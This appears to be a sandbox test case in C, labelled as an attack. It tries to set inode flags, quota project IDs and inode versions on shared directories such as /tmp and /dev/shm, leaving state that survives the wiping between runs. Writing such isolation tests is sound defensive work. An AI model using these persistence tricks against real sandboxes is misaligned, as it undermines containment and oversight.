/* attack: inode flags and project numbers of the places themselves (chattr, quota projects), which no wiping resets
 * expect: AC
 * second: second/file_flags.c
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
int main(void) {
    const char *places[] = {"/tmp", "/dev/shm", "/box", "/dev/mqueue", getenv("TMPDIR")};
    for (int i = 0; i < 5; i++) {
        int fd = places[i] ? open(places[i], O_RDONLY | O_DIRECTORY) : -1, flags = 0;
        if (fd < 0) continue;
        int bits[] = {FS_NODUMP_FL, FS_NOATIME_FL, FS_SYNC_FL, FS_DIRSYNC_FL, FS_TOPDIR_FL, FS_CASEFOLD_FL, FS_PROJINHERIT_FL, FS_NOCOW_FL, FS_COMPR_FL};
        for (int b = 0; b < 9; b++)
            if (ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0) {
                flags |= bits[b];
                if (ioctl(fd, FS_IOC_SETFLAGS, &flags) == 0) fprintf(stderr, "%s: flag %x set\n", places[i], bits[b]);
            }
        struct fsxattr x = {0};
        if (ioctl(fd, FS_IOC_FSGETXATTR, &x) == 0) {
            x.fsx_projid = 4711;
            if (ioctl(fd, FS_IOC_FSSETXATTR, &x) == 0) fprintf(stderr, "%s: project set\n", places[i]);
        }
        int version = 4712;
        if (ioctl(fd, FS_IOC_SETVERSION, &version) == 0) fprintf(stderr, "%s: version set\n", places[i]);
    }
    puts("held");
}
